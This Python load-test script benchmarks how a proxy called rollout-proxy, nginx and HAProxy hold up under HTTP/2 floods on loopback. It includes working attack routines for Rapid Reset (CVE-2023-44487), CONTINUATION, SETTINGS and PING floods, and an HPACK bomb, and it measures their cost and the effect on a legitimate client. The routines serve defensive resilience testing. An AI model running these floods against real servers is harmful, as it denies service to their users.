"""Hostile HTTP/2 floods against rollout-proxy, nginx and HAProxy: what each attack costs them.

For each attack the proxy's raw tests cover (tests/http2/test_h2_hostile.py), an attacker in
this process, pinned to the load CPU, runs it in a loop for `--duration` seconds over
`--connections` parallel connections, opening a new one when the target closes one, and at most
`--max-connections` in all. Meanwhile a legitimate client (h2load, one connection, `--legit-rps`
requests a second) asks for `/legit` on a connection of its own. Attacks (frames built by the h2
library, or by hyperframe where h2 would refuse to build them; HPACK by hpack's encoder):

- `none`: no attacker, the legitimate client alone (the baseline);
- `rapid-reset` (CVE-2023-44487): HEADERS for `GET /attack` then RST_STREAM(CANCEL), 20 streams
  a write, in a loop;
- `continuation`: a HEADERS frame without END_HEADERS, then empty CONTINUATION frames, 100 a
  write, never ending the block;
- `settings` / `ping`: SETTINGS (PING) frames, 100 a write;
- `hpack-bomb`: a 4,000-byte field put in the HPACK dynamic table once, then requests that
  reference it 100 times (a few hundred bytes on the wire, 400 KB decoded each).

Per attack and target it reports: the target's CPU seconds (utime+stime from /proc) and CPU %
over the run, its RSS before / peak (sampled every 50 ms) / after, the attack's requests that
reached the upstream (counted in the upstream nginx's access log by path), the connections the
attacker opened and how many the target closed (and of those, how many it closed before sending
a byte: refused at accept, as rollout-proxy does for a barred address), the frames (or streams)
it wrote to its sockets (handed to the kernel; a target that closes leaves some unread), and the
legitimate client's answers (2xx of all) and p50/p99 latency.

Everything listens on 127.0.0.1 (h2c by prior knowledge: the attacks are on the HTTP/2 layer;
TLS would cost every target the same); each attack connects from an address of its own
(127.0.0.2, 127.0.0.3, ...). The upstream nginx and the attacker run on the first CPU, the
target on the second. rollout-proxy runs as loadtests/bench.py runs it (metrics on, a 10% canary
step) with `http2: {enabled: true, h2c: true}` and the default HTTP/2 limits; nginx with `listen
... http2` (1 worker, keep-alive upstream); HAProxy with `bind ... proto h2` (1 thread).

Usage::

    python loadtests/h2flood.py                  # every attack x every target, 10 s each (~4 min)
    python loadtests/h2flood.py --duration 2 --targets rollout-proxy --json flood.json
    python loadtests/h2flood.py --attacks rapid-reset,hpack-bomb --targets nginx,rollout-proxy

Exit status: 0 when every run completed and every target survived, 1 otherwise, 2 when a tool
is missing (nginx, h2load, taskset; haproxy only when asked for).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.exceptions import H2Error
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

sys.path.insert(0, str(Path(__file__).resolve().parent))
import bench  # loadtests/bench.py: processes, /proc readers, configs, tables

ATTACKS = ("none", "rapid-reset", "continuation", "settings", "ping", "hpack-bomb")
TARGETS = ("nginx", "haproxy", "rollout-proxy")
ATTACK_PATH = "/attack"
LEGIT_PATH = "/legit"
BATCH = 20  # rapid reset: streams opened and reset per write
FRAMES_PER_WRITE = 100  # CONTINUATION, SETTINGS, PING frames per write
BOMB_FIELD = (b"x-bomb", b"b" * 4000)
BOMB_REPEAT = 100
Fields = list[tuple[bytes, bytes]]


def attacker_address(attack_name: str) -> str:
    """The source address of an attack: loopback too (it connects to 127.0.0.1 like the
    legitimate client), but its own, one per attack. What a target does to an abusive address
    (rollout-proxy's `http2.penalty`) then falls on that attacker alone, as with a real one,
    and each attack starts unbarred."""
    return f"127.0.0.{2 + ATTACKS.index(attack_name)}"


UPSTREAM = """\
    log_format flood '$request_uri';
    server {{
        listen 127.0.0.1:{port} backlog=4096;
        access_log {log} flood;
        location / {{
            return 200 "ok\\n";
        }}
    }}
"""


@dataclass(slots=True)
class Tally:
    """What the attacker did in one run."""

    connections: int = 0  # opened
    closed_by_target: int = 0  # ended by the target (EOF or reset) before the run's end
    closed_unanswered: int = 0  # of those, closed before the target sent a byte (barred)
    frames: int = 0  # frames sent (rapid reset and HPACK bomb: streams opened)
    refused_connects: int = 0  # connection attempts that failed


@dataclass(slots=True)
class FloodResult:
    """One attack against one target."""

    attack: str
    target: str
    duration_s: float = 0.0
    connections: int = 0
    closed_by_target: int = 0
    closed_unanswered: int = 0  # closed before the target sent a byte (refused at accept)
    refused_connects: int = 0  # connection attempts that failed (counted in connections)
    sent: int = 0
    sent_unit: str = "frames"
    upstream_attack_requests: int = 0
    upstream_legit_requests: int = 0
    cpu_s: float = 0.0
    cpu_pct: float = 0.0
    rss_before_mib: float = 0.0
    rss_peak_mib: float = 0.0
    rss_after_mib: float = 0.0
    legit_requests: int = 0
    legit_2xx: int = 0
    legit_p50_ms: float | None = None
    legit_p99_ms: float | None = None
    failure: str | None = None


# ---------------------------------------------------------------------------------------------
# The attacker
# ---------------------------------------------------------------------------------------------


def _client() -> H2Connection:
    return H2Connection(
        H2Configuration(
            client_side=True,
            header_encoding=None,
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
            validate_inbound_headers=False,
        )
    )


def _get(path: str = ATTACK_PATH) -> Fields:
    return [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"127.0.0.1"),
            (b":path", path.encode())]  # fmt: skip


class Conn:
    """One attacking connection: its h2 state (fed with what the target sends while `parse`
    holds) and whether the target has ended it."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.h2 = _client()
        self.parse = True
        self.closed = False
        self.answered = False  # the target sent something (its SETTINGS, at least)
        self._task = asyncio.ensure_future(self._read())

    async def _read(self) -> None:
        try:
            while data := await self.reader.read(65536):
                self.answered = True
                if self.parse:
                    try:
                        self.h2.receive_data(data)
                    except H2Error:
                        self.parse = False  # past what h2 follows: keep draining the bytes
        except (ConnectionError, OSError):
            pass
        self.closed = True

    async def write(self, data: bytes) -> None:
        if self.closed:
            return
        self.writer.write(data)
        try:
            await self.writer.drain()
        except (ConnectionError, OSError):
            self.closed = True

    async def flush(self) -> None:
        await self.write(self.h2.data_to_send())

    async def closed_by_peer(self, within: float) -> bool:
        """Whether the target ends the connection within `within` s (it may send GOAWAY
        first and close a moment later)."""
        with contextlib.suppress(TimeoutError, asyncio.CancelledError):
            await asyncio.wait_for(asyncio.shield(self._task), max(0.0, within))
        return self.closed

    async def close(self) -> None:
        self._task.cancel()
        with contextlib.suppress(asyncio.CancelledError, ConnectionError, OSError):
            await self._task
        self.writer.close()
        with contextlib.suppress(ConnectionError, OSError):
            await self.writer.wait_closed()


async def rapid_reset(conn: Conn, tally: Tally, until: float) -> None:
    loop = asyncio.get_running_loop()
    while not conn.closed and loop.time() < until:
        try:
            for _ in range(BATCH):
                stream_id = conn.h2.get_next_available_stream_id()
                conn.h2.send_headers(stream_id, _get(), end_stream=True)
                conn.h2.reset_stream(stream_id, ErrorCodes.CANCEL)
                tally.frames += 1
        except H2Error:
            return  # h2 refuses to go on (a GOAWAY came): the reader sees the close
        await conn.flush()
        await asyncio.sleep(0)


async def continuation(conn: Conn, tally: Tally, until: float) -> None:
    conn.parse = False
    loop = asyncio.get_running_loop()
    block = Encoder().encode(_get())
    await conn.write(HeadersFrame(1, data=block[:5]).serialize())  # no END_HEADERS
    tally.frames += 1
    batch = ContinuationFrame(1, data=b"").serialize() * FRAMES_PER_WRITE
    while not conn.closed and loop.time() < until:
        await conn.write(batch)
        tally.frames += FRAMES_PER_WRITE
        await asyncio.sleep(0)


def _control_flood(frame: bytes) -> Callable[[Conn, Tally, float], Any]:
    async def flood(conn: Conn, tally: Tally, until: float) -> None:
        conn.parse = False
        loop = asyncio.get_running_loop()
        batch = frame * FRAMES_PER_WRITE
        while not conn.closed and loop.time() < until:
            await conn.write(batch)
            tally.frames += FRAMES_PER_WRITE
            await asyncio.sleep(0)

    return flood


async def hpack_bomb(conn: Conn, tally: Tally, until: float) -> None:
    loop = asyncio.get_running_loop()
    try:
        conn.h2.send_headers(1, [*_get(), BOMB_FIELD], end_stream=True)  # into the table
        tally.frames += 1
        await conn.flush()
        while not conn.closed and loop.time() < until:
            limit = conn.h2.remote_settings.max_concurrent_streams
            if conn.h2.open_outbound_streams >= limit:
                await asyncio.sleep(0.001)
                continue
            stream_id = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(stream_id, [*_get(), *[BOMB_FIELD] * BOMB_REPEAT], end_stream=True)
            tally.frames += 1
            await conn.flush()
            await asyncio.sleep(0)
    except H2Error:
        return


FLOODS: dict[str, Callable[[Conn, Tally, float], Any]] = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "settings": _control_flood(SettingsFrame(0).serialize()),
    "ping": _control_flood(PingFrame(0, opaque_data=b"12345678").serialize()),
    "hpack-bomb": hpack_bomb,
}


async def _worker(
    port: int, flood: Callable[[Conn, Tally, float], Any], tally: Tally, until: float, cap: int,
    source: str,
) -> None:  # fmt: skip
    loop = asyncio.get_running_loop()
    while loop.time() < until and tally.connections < cap:
        tally.connections += 1
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0)),
                until - loop.time(),
            )
        except (TimeoutError, OSError):
            tally.refused_connects += 1
            await asyncio.sleep(0.01)
            continue
        conn = Conn(reader, writer)
        conn.h2.initiate_connection()
        await conn.flush()
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(flood(conn, tally, until), max(0.0, until - loop.time()))
        if loop.time() < until and await conn.closed_by_peer(min(1.0, until - loop.time())):
            tally.closed_by_target += 1
            tally.closed_unanswered += not conn.answered
        await conn.close()


async def attack(port: int, name: str, duration: float, connections: int, cap: int) -> Tally:
    """Run the attack for `duration` s over `connections` parallel connections (at most `cap`
    opened in all), reconnecting when the target closes one."""
    tally = Tally()
    if name == "none":
        await asyncio.sleep(duration)
        return tally
    until = asyncio.get_running_loop().time() + duration
    flood, source = FLOODS[name], attacker_address(name)
    workers = (_worker(port, flood, tally, until, cap, source) for _ in range(connections))
    await asyncio.gather(*workers)
    return tally


# ---------------------------------------------------------------------------------------------
# The legitimate client (h2load at a fixed rate on one connection)
# ---------------------------------------------------------------------------------------------


def legit_argv(port: int, duration: float, rps: int, log: Path) -> list[str]:
    return ["h2load", "-t1", "-c1", "-m1", f"--rps={rps}", f"-D{max(1, round(duration))}",
            f"--log-file={log}", f"http://127.0.0.1:{port}{LEGIT_PATH}"]  # fmt: skip


def legit_figures(log: Path) -> tuple[int, int, float | None, float | None]:
    """(requests, 2xx, p50 ms, p99 ms) from h2load's per-request log."""
    rows = [ln.split("\t") for ln in log.read_text().splitlines() if ln.count("\t") >= 2]
    statuses = [int(r[1]) for r in rows]
    latencies = sorted(int(r[2]) / 1e3 for r in rows)
    if not latencies:
        return 0, 0, None, None
    ok = sum(200 <= s < 300 for s in statuses)
    p99 = latencies[min(len(latencies) - 1, len(latencies) * 99 // 100)]
    return len(rows), ok, latencies[len(latencies) // 2], p99


# ---------------------------------------------------------------------------------------------
# Targets
# ---------------------------------------------------------------------------------------------


@dataclass(slots=True)
class Flood:
    """The processes of one run of this tool."""

    runner: bench.Bench
    access_log: Path
    upstream_port: int = 0

    def start_upstream(self) -> None:
        runner = self.runner

        def build(ports: list[int]) -> tuple[list[str], Path | None, dict[str, str] | None]:
            body = UPSTREAM.format(port=ports[0], log=self.access_log)
            prefix = runner._nginx_prefix(f"upstream-{ports[0]}", body)
            return bench.pinned(runner.load_cpu, bench.nginx_argv(prefix)), None, None

        _, ports = runner._start("upstream", build, 1, 1)
        self.upstream_port = ports[0]

    def start(self, name: str) -> bench.Target:
        starters = {
            "nginx": self._nginx,
            "haproxy": self._haproxy,
            "rollout-proxy": self._rollout_proxy,
        }
        return starters[name]()

    def _nginx(self) -> bench.Target:
        runner = self.runner

        def build(ports: list[int]) -> tuple[list[str], Path | None, dict[str, str] | None]:
            body = bench.PROXY_NGINX_HTTP.format(
                upstream_port=self.upstream_port, port=ports[0], ssl=" http2", tls_lines=""
            )
            prefix = runner._nginx_prefix(f"nginx-proxy-{ports[0]}", body)
            return bench.pinned(runner.target_cpu, bench.nginx_argv(prefix)), None, None

        proc, ports = runner._start("nginx", build, 1, 1)
        return bench.Target("nginx", ports[0], proc, "1 worker, listen ... http2 (h2c)")

    def _haproxy(self) -> bench.Target:
        runner = self.runner

        def build(ports: list[int]) -> tuple[list[str], Path | None, dict[str, str] | None]:
            cfg = runner.workdir / f"haproxy-{ports[0]}.cfg"
            cfg.write_text(
                bench.HAPROXY_CFG.format(
                    maxconn=runner.max_conns,
                    port=ports[0],
                    upstream_port=self.upstream_port,
                    bind_tls=" proto h2",
                )
            )
            argv = ["haproxy", "-db", "-f", str(cfg)]
            return bench.pinned(runner.target_cpu, argv), None, None

        proc, ports = runner._start("haproxy", build, 1, 1)
        return bench.Target("haproxy", ports[0], proc, "1 thread, bind ... proto h2 (h2c)")

    def _rollout_proxy(self) -> bench.Target:
        runner = self.runner

        def build(ports: list[int]) -> tuple[list[str], Path | None, dict[str, str] | None]:
            cfg = runner.workdir / f"rollout-{ports[0]}.yaml"
            state = runner.workdir / f"state-{ports[0]}"
            state.mkdir(exist_ok=True)
            cfg.write_text(
                bench.rollout_config(
                    ports[0],
                    ports[1],
                    (self.upstream_port, self.upstream_port),
                    state / "rollouts.json",
                    runner.max_conns,
                    http2=True,
                    h2c_listener=True,
                )
            )
            argv = [sys.executable, "-m", "proxy", "run", "-c", str(cfg)]
            env = dict(os.environ)
            env["PYTHONPATH"] = os.pathsep.join(
                p for p in (str(bench.REPO_ROOT), env.get("PYTHONPATH", "")) if p
            )
            return bench.pinned(runner.target_cpu, argv), bench.REPO_ROOT, env

        proc, ports = runner._start("rollout-proxy", build, 2, 1)
        note = "as bench.py runs it, http2: {enabled: true, h2c: true}, default limits"
        return bench.Target("rollout-proxy", ports[0], proc, note, admin_port=ports[1])

    def upstream_counts(self) -> tuple[int, int]:
        """(attack, legit) requests in the upstream's access log so far."""
        text = self.access_log.read_text() if self.access_log.exists() else ""
        lines = text.splitlines()
        return (
            sum(ln.startswith(ATTACK_PATH) for ln in lines),
            sum(ln.startswith(LEGIT_PATH) for ln in lines),
        )


def run_one(flood: Flood, target: bench.Target, name: str, opts: argparse.Namespace) -> FloodResult:
    """One attack against one (running) target, the legitimate client beside it."""
    assert target.proc is not None
    result = FloodResult(name, target.name)
    result.sent_unit = "streams" if name in ("rapid-reset", "hpack-bomb") else "frames"
    pids = target.proc.tree()
    attack0, legit0 = flood.upstream_counts()
    result.rss_before_mib = bench.rss_mib(pids)
    log = flood.runner.workdir / f"legit-{name}-{target.name}.log"
    cpu0, started = bench.cpu_seconds(pids), time.monotonic()
    legit = subprocess.Popen(
        bench.pinned(
            flood.runner.load_cpu, legit_argv(target.port, opts.duration, opts.legit_rps, log)
        ),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        stdin=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        with bench.RssSampler(target.proc.pid) as sampler:
            tally = asyncio.run(
                attack(target.port, name, opts.duration, opts.connections, opts.max_connections)
            )
            try:
                legit.communicate(timeout=opts.duration + 30)
            except subprocess.TimeoutExpired:
                result.failure = "the legitimate client did not finish"
    finally:
        if legit.poll() is None:
            os.killpg(legit.pid, 9)
            legit.wait()
    result.duration_s = time.monotonic() - started
    result.cpu_s = bench.cpu_seconds(pids) - cpu0
    result.cpu_pct = 100 * result.cpu_s / result.duration_s
    result.rss_peak_mib = sampler.peak
    time.sleep(0.5)  # stragglers reach the upstream's log; the target settles
    result.rss_after_mib = bench.rss_mib(target.proc.tree())
    attack1, legit1 = flood.upstream_counts()
    result.upstream_attack_requests = attack1 - attack0
    result.upstream_legit_requests = legit1 - legit0
    result.connections, result.closed_by_target = tally.connections, tally.closed_by_target
    result.refused_connects = tally.refused_connects
    result.closed_unanswered = tally.closed_unanswered
    result.sent = tally.frames
    if log.exists():
        figures = legit_figures(log)
        result.legit_requests, result.legit_2xx, result.legit_p50_ms, result.legit_p99_ms = figures
    if not target.proc.alive():
        result.failure = f"{target.name} died:\n{target.proc.tail()}"
    return result


# ---------------------------------------------------------------------------------------------
# Report and command line
# ---------------------------------------------------------------------------------------------


def rows(results: Sequence[FloodResult]) -> str:
    fmt = bench._fmt
    head = ["attack", "target", "conns opened/closed by target", "sent", "upstream (attack)",
            "CPU s", "CPU %", "RSS before/peak/after MiB", "legit 2xx/all", "legit p50/p99 ms",
            "failure"]  # fmt: skip
    body = [
        [
            r.attack,
            r.target,
            f"{r.connections}/{r.closed_by_target}"
            + (f" ({r.closed_unanswered} unanswered)" if r.closed_unanswered else "")
            + (f" ({r.refused_connects} refused)" if r.refused_connects else ""),
            f"{r.sent:,} {r.sent_unit}",
            f"{r.upstream_attack_requests:,}",
            f"{r.cpu_s:.2f}",
            f"{r.cpu_pct:.0f}",
            f"{r.rss_before_mib:.1f}/{r.rss_peak_mib:.1f}/{r.rss_after_mib:.1f}",
            f"{r.legit_2xx}/{r.legit_requests}",
            f"{fmt(r.legit_p50_ms, '.2f')}/{fmt(r.legit_p99_ms, '.2f')}",
            (r.failure or "").splitlines()[0] if r.failure else "",
        ]
        for r in results
    ]
    return bench.table(head, body)


def parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    p.add_argument(
        "--attacks", default=",".join(ATTACKS), help=f"comma list of {','.join(ATTACKS)}"
    )
    p.add_argument("--targets", help=f"comma list of {','.join(TARGETS)} (default: all installed)")
    p.add_argument("--duration", type=float, default=10.0, help="seconds per attack (default 10)")
    p.add_argument("--connections", type=int, default=4, help="parallel attacking connections")
    p.add_argument(
        "--max-connections",
        type=int,
        default=500,
        help="attacking connections opened per run at most (default 500)",
    )
    p.add_argument("--legit-rps", type=int, default=200, help="the legitimate client's rate")
    p.add_argument("--json", type=Path, help="also write every result here")
    p.add_argument("--keep-workdir", action="store_true", help="keep configs and logs")
    return p.parse_args(argv)


def _choose(value: str | None, allowed: Sequence[str], what: str) -> tuple[str, ...]:
    chosen = bench._split(value, allowed, what)
    if chosen is not None:
        return chosen
    return tuple(t for t in allowed if t != "haproxy" or shutil.which("haproxy"))


def execute(opts: argparse.Namespace, workdir: Path) -> int:
    attacks = _choose(opts.attacks, ATTACKS, "attack")
    targets = _choose(opts.targets, TARGETS, "target")
    load_cpu, target_cpu, note = bench.choose_cpus()
    if note:
        print(f"warning: {note}")
    if load_cpu is not None:
        os.sched_setaffinity(0, {load_cpu})  # the attacker runs here, off the target's CPU
    nofile = bench.raise_nofile(8192)
    options = bench.Options(
        rounds=1, duration=opts.duration, warmup=0.0, scenarios=("h2",), targets=targets,
        explicit_targets=True, connections=opts.connections, body_connections=1, idle_n=0,
        soak_requests=0, json_path=None, proxy_cmd="", quick=False, keep_workdir=False,
    )  # fmt: skip
    runner = bench.Bench(options, workdir, (load_cpu, target_cpu), nofile)
    flood = Flood(runner, workdir / "upstream-access.log")
    results: list[FloodResult] = []
    try:
        flood.start_upstream()
        for name in targets:
            target = flood.start(name)
            print(f"{name}: {target.note}", flush=True)
            for attack_name in attacks:
                if target.proc is None or not target.proc.alive():
                    target = flood.start(name)  # the last attack killed it: a fresh one
                result = run_one(flood, target, attack_name, opts)
                results.append(result)
                print(f"  {attack_name:<13} {result.sent:>10,} {result.sent_unit:<8}"
                      f" upstream {result.upstream_attack_requests:>6,}"
                      f"  cpu {result.cpu_pct:3.0f}%  legit {result.legit_2xx}/"
                      f"{result.legit_requests} p99 {bench._fmt(result.legit_p99_ms, '.2f')} ms"
                      f"{'  FAILED' if result.failure else ''}", flush=True)  # fmt: skip
            assert target.proc is not None
            target.proc.stop()
    except bench.StartError as exc:
        print(f"FAILED: did not start: {exc}", file=sys.stderr)
        return 1
    finally:
        runner.close()
    print(f"\nHTTP/2 floods, {opts.duration:g} s each, {opts.connections} attacking connections "
          f"(at most {opts.max_connections} per run), legitimate client at {opts.legit_rps} "
          "req/s on its own connection\n" + rows(results))  # fmt: skip
    ok = all(r.failure is None for r in results)
    if opts.json:
        data = {"options": {k: str(v) for k, v in vars(opts).items()}, "ok": ok}
        data["results"] = [asdict(r) for r in results]
        opts.json.write_text(json.dumps(data, indent=2) + "\n")
        print(f"\nJSON written to {opts.json}")
    print("\nresult: " + ("ok" if ok else "FAILED"))
    return 0 if ok else 1


def main(argv: Sequence[str] | None = None) -> int:
    opts = parse_args(argv)
    needed = ["nginx", "h2load", "taskset"]
    if opts.targets and "haproxy" in opts.targets:
        needed.append("haproxy")
    missing = [t for t in needed if shutil.which(t) is None]
    if missing:
        print(f"missing: {', '.join(missing)} (apt-get install -y nginx-light nghttp2-client "
              "haproxy util-linux)", file=sys.stderr)  # fmt: skip
        return 2
    workdir = Path(tempfile.mkdtemp(prefix="rollout-h2flood-"))
    workdir.chmod(0o755)
    try:
        return execute(opts, workdir)
    finally:
        if opts.keep_workdir:
            print(f"work directory kept: {workdir}")
        else:
            shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
